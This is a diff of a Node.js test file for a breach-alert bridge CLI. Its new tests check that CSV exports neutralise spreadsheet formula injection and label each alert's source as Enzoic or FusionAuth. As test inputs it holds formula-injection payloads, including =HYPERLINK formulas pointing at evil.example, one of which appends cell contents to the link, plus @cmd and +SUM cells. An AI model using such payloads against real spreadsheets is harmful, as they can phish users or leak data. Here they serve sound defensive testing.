@@ -2,6 +2,7 @@ import { test } from 'node:test'
 import assert from 'node:assert/strict'
 import { randomUUID } from 'node:crypto'
 import { startFusionAuthFake } from '../fakes/fusionauth.js'
+import { postEvent, userEvent } from '../fakes/fusionauth-events.js'
 import { postAlert, startTestBridge, waitFor } from '../helper.js'
 import { cli } from '../fixtures/in-process.js'
 
@@ -108,7 +109,7 @@ test('alerts list --csv: RFC 4180, and cells that a spreadsheet would run as for
   assert.equal(r.code, 0, r.stderr)
   assert.ok(r.stdout.endsWith('\r\n'))
   const rows = parseCsv(r.stdout)
-  assert.deepEqual(rows[0], ['id', 'receivedAt', 'state', 'outcome', 'attempts', 'deliveries', 'email', 'usernameHash', 'customData', 'exposureId', 'exposureTitle', 'completedAt'])
+  assert.deepEqual(rows[0], ['id', 'receivedAt', 'source', 'state', 'outcome', 'attempts', 'deliveries', 'email', 'usernameHash', 'customData', 'exposureId', 'exposureTitle', 'completedAt'])
   assert.equal(rows.length, 3)
   const byId = new Map(rows.slice(1).map(row => [row[0], Object.fromEntries(rows[0]!.map((h, i) => [h, row[i]]))]))
   const first = byId.get(id)!
@@ -118,6 +119,29 @@ test('alerts list --csv: RFC 4180, and cells that a spreadsheet would run as for
   assert.equal(first.email, 'csv@acme-corp.io')
   assert.equal(byId.get(second)!.exposureId, '\'-42')
   assert.match(r.stdout, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click""\)",/, 'quotes doubled inside a quoted cell')
+  assert.ok(r.stdout.split('\r\n').slice(0, -1).every(line => /^"([^"]|"")*"(,"([^"]|"")*")*$/.test(line)), 'every cell quoted, the header too')
+})
+
+test('alerts list --csv: each ;-separated part of a cell is guarded (Excel in de/fr/es/it/nl splits lines at ;)', async t => {
+  const bridge = await startTestBridge(t)
+  const id = (await postAlert(bridge.url, {
+    username: 'semi@acme-corp.io',
+    exposureID: 'a;=HYPERLINK("https://evil.example/reset","Reset");b',
+    customData: 'x; +SUM(1);@cmd;-2',
+    exposureDetails: { title: 'Forum;=1+1' }
+  })).body.alertId as string
+  const r = await cli(['alerts', 'list', '--csv'], { BRIDGE_DATABASE: bridge.config.database })
+  assert.equal(r.code, 0, r.stderr)
+  const rows = parseCsv(r.stdout)
+  const row = Object.fromEntries(rows[0]!.map((h, i) => [h, rows[1]![i]]))
+  assert.equal(row.id, id)
+  assert.equal(row.exposureId, 'a;\'=HYPERLINK("https://evil.example/reset","Reset");b')
+  assert.equal(row.customData, 'x;\' +SUM(1);\'@cmd;\'-2')
+  assert.equal(row.exposureTitle, 'Forum;\'=1+1')
+  // Read as Excel does where the list separator is ';' (quotes no help): no part starts a formula.
+  for (const line of r.stdout.split('\r\n')) {
+    for (const part of line.split(';')) assert.ok(!/^\s*[=+\-@]/.test(part), `a formula cell: ${part}`)
+  }
 })
 
 test('alerts purge: refuses under a day without --force and without --yes off a terminal; keeps tombstones and unfinished alerts', async t => {
@@ -166,4 +190,44 @@ test('alerts purge on a terminal asks first: anything but yes purges nothing (ex
   assert.equal(yes.code, 0, yes.stderr)
   assert.equal(yes.stderr, question)
   assert.match(yes.stdout, /^Purged the personal data of 0 alerts finished before 2026-01-30 00:00:00Z;/)
+})
+
+test('alerts list / show and users list name the source: enzoic, or fusionauth (its detection at a login); --source filters', async t => {
+  const fa = await startFusionAuthFake()
+  t.after(() => fa.close())
+  const user = fa.addUser({ tenantId: fa.tenants[0]!.id, email: 'sam@acme-corp.io' })
+  const secret = `Bearer ${randomUUID()}`
+  const bridge = await startTestBridge(t, { FUSIONAUTH_URL: fa.url, FUSIONAUTH_API_KEY: fa.apiKey, FUSIONAUTH_WEBHOOK_SECRET: secret })
+  const fromEnzoic = (await postAlert(bridge.url, { username: 'sam@acme-corp.io', exposureID: 'exp-sam' })).body.alertId as string
+  const posted = await postEvent(bridge.url, userEvent('user.password.breach', user), { authorization: secret })
+  assert.equal(posted.status, 200, posted.text)
+  const fromFusionAuth = posted.body.alertId as string
+  for (const id of [fromEnzoic, fromFusionAuth]) await waitFor(async () => (await bridge.store.alerts.get(id))?.state === 'done', 'the alerts to finish')
+  const env = { BRIDGE_DATABASE: bridge.config.database }
+
+  const list = await cli(['alerts', 'list'], env)
+  assert.equal(list.code, 0, list.stderr)
+  assert.match(list.stdout, /^ID +RECEIVED +SOURCE +STATE/m)
+  assert.match(list.stdout, new RegExp(`^${fromEnzoic} +\\S+ \\S+ +enzoic +done`, 'm'))
+  assert.match(list.stdout, new RegExp(`^${fromFusionAuth} +\\S+ \\S+ +fusionauth +done`, 'm'))
+  const json = JSON.parse((await cli(['alerts', 'list', '--json'], env)).stdout) as Array<{ id: string, source: string }>
+  assert.deepEqual(json.map(a => [a.id, a.source]), [[fromFusionAuth, 'fusionauth'], [fromEnzoic, 'enzoic']])
+  const csv = parseCsv((await cli(['alerts', 'list', '--csv'], env)).stdout)
+  assert.deepEqual(csv.slice(1).map(row => [row[0], row[csv[0]!.indexOf('source')]]), [[fromFusionAuth, 'fusionauth'], [fromEnzoic, 'enzoic']])
+  const only = JSON.parse((await cli(['alerts', 'list', '--source', 'fusionauth', '--json'], env)).stdout) as Array<{ id: string }>
+  assert.deepEqual(only.map(a => a.id), [fromFusionAuth])
+  assert.equal((await cli(['alerts', 'list', '--source', 'okta'], env)).code, 2)
+
+  const show = await cli(['alerts', 'show', fromFusionAuth], env)
+  assert.match(show.stdout, /^Source: +fusionauth \(its breached password detection, at a login\)$/m)
+  assert.match((await cli(['alerts', 'show', fromEnzoic], env)).stdout, /^Source: +enzoic$/m)
+  assert.equal(JSON.parse((await cli(['alerts', 'show', fromFusionAuth, '--json'], env)).stdout).source, 'fusionauth')
+
+  const users = await cli(['users', 'list'], env)
+  assert.match(users.stdout, new RegExp(`^${user.id} +${user.tenantId} +sam@acme-corp\\.io +fusionauth +- +actioned`, 'm'))
+  assert.match(users.stdout, new RegExp(`^${user.id} +${user.tenantId} +sam@acme-corp\\.io +enzoic +exp-sam +actioned`, 'm'))
+  const rows = JSON.parse((await cli(['users', 'list', '--json'], env)).stdout) as Array<{ source: string, exposureId?: string }>
+  assert.deepEqual(rows.map(r => [r.source, r.exposureId ?? null]), [['fusionauth', null], ['enzoic', 'exp-sam']], 'FusionAuth\'s detection is an exposure of its own')
+  const usersCsv = parseCsv((await cli(['users', 'list', '--csv'], env)).stdout)
+  assert.deepEqual(usersCsv.slice(1).map(row => row[usersCsv[0]!.indexOf('source')]), ['fusionauth', 'enzoic'])
 })
